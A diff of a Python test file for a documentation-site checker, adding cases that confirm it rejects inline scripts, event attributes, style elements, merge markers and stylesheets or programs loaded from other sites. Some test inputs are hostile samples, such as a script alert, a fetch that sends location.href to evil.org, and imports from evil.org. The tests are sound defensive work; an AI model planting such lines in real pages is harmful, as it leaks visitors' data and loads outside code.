@@ -119,7 +119,7 @@ def test_a_guide_that_is_too_long_names_its_longest_parts(root: Path) -> None:
 
 SOUND = {
     "emphasis and signs": "**b** *i* ***bi*** __b__ `c` ``a ` b`` snake_case_name 2*3 a < b > c & d AT&T x&y <3",
-    "lists": "- a\n- b\n\n    More of b.\n\n    - c\n        - d\n\n1. one\n2. two\n\n* x\n+ y\n\nText\n\n - p\n - q\n\n9. r\n10. s",
+    "lists": "- a\n- b\n\n    More of b.\n\n    - c\n        - d\n\nThen:\n\n1. one\n2. two\n\n* x\n+ y\n\nText\n\n - p\n - q\n\nAnd\n\n9. r\n10. s",
     "tables": "| a | b |\n|:--|--:|\n| `x|y` | a \\| b |\n| **c** | [d](index.md) |\n| e |\n\na | b\n--- | ---\nc | d",
     "definitions": "Word\n:   What it means.\n\nOther\n:   One.\n:   Two.\n\n    More.",
     "footnotes": "Words.[^1] More.[^long-note]\n\n[^1]: The note.\n[^long-note]: Another.\n\n    With two paragraphs.",
@@ -211,6 +211,7 @@ def test_navigation_names_pages_that_exist(project: Path) -> None:
 
 
 BASE = "overrides/base.html"
+SHEET, PROGRAM = "overrides/assets/kb/css/blocks.css", "overrides/assets/kb/address.js"
 _FOREIGN = '<link rel="stylesheet" href="https://fonts.googleapis.com/css?x">'
 THEME = [  # (file, what is written there, what instead; nothing empties or deletes it), and what is told
     (BASE, "", "", BASE, "KB121", "is empty"),
@@ -218,7 +219,37 @@ THEME = [  # (file, what is written there, what instead; nothing empties or dele
     ("overrides/404.html", "{% block content %}", "{% block contant %}", "overrides/404.html", "KB332", "'content'?"),
     (BASE, "</head>", "{{ nonexistent.foo }}</head>", BASE, "KB332", "uses 'nonexistent'"),
     (BASE, "</head>", f"{_FOREIGN}</head>", BASE, "KB332", "loads 'https://fonts.googleapis.com/css?x'"),
-    (BASE, "</head>", '<a href="https://example.org/">a</a></head>', "", "", ""),
+    (BASE, "</head>", '<a href="https://example.org/">a</a>{# <style> #}</head>', "", "", ""),
+    (BASE, "</head>", "<style>a { color: red }</style></head>", BASE, "KB332", "holds a style element"),
+    (BASE, "</head>", "<script>alert(1)</script></head>", BASE, "KB332", "holds a program"),
+    (BASE, "</head>", "<b\n onclick='x'>a</b></head>", BASE, "KB332", "holds an attribute that runs a program"),
+    (SHEET, "@layer", "/* url(//a.org/b) */ @layer", "", "", ""),
+    (SHEET, "@layer", '@import url("https://evil.org/a.css"); @layer', SHEET, "KB332", "'https://evil.org/a.css'"),
+    (SHEET, "@layer", "@font-face { src: URL( //evil.org/p ) } @layer", SHEET, "KB332", "loads '//evil.org/p'"),
+    (
+        PROGRAM,
+        "const query",
+        'fetch("https://evil.org/" + location.href); const query',
+        PROGRAM,
+        "KB332",
+        "loads 'https://evil",
+    ),
+    (
+        PROGRAM,
+        "const query",
+        'import "https://evil.org/x.js"; import',
+        PROGRAM,
+        "KB332",
+        "loads 'https://evil.org/x.js'",
+    ),
+    (PROGRAM, "const query", 'const a = "https://example.org/"; import', "", "", ""),
+    (BASE, "| url", "| urll", BASE, "KB332", "uses the filter 'urll'"),
+    (BASE, "</head>", "\n<<<<<<< HEAD\n</head>", BASE, "KB330", "a mark that a merge left"),
+    (SHEET, "@layer", "=======\n>>>>>>> x\n@layer", SHEET, "KB330", "'>>>>>>> x'"),
+    (SHEET, "@layer", ".a { content: '}' @layer", SHEET, "KB332", "has a { without its pair"),
+    (SHEET, "@layer", ".a { content: '}' /* { */ } @layer", "", "", ""),
+    ("overrides/assets/kb/mark.svg", None, "", "overrides/assets/kb/mark.svg", "KB121", "sheet.css' takes it"),
+    (PROGRAM, None, "", PROGRAM, "KB121", "' takes it"),
     ("overrides/assets/kb/css/tokens.css", "", "", "overrides/assets/kb/css/tokens.css", "KB121", "bring it back"),
     (
         "overrides/assets/kb/css",
@@ -289,7 +320,7 @@ def test_plain_mkdocs_leaves_the_site_alone_where_the_check_refuses(project: Pat
 
 def test_plain_mkdocs_leaves_nothing_of_a_site_that_verify_refuses(project: Path) -> None:
     foreign = '<link rel="stylesheet" href="{{ "https:" }}//fonts.example.com/a">'  # as no template is read for
-    changed(project / "overrides" / "base.html", "</body>", f"<b onclick=x>y</b>{foreign}</body>")
+    changed(project / "overrides" / "base.html", "</body>", f'<b {{{{ "on" }}}}click=x>y</b>{foreign}</body>')
     done = mkdocs(project)
     assert done.returncode == 1 and "an event attribute" in done.stderr
     assert "something that is loaded from another site" in done.stderr
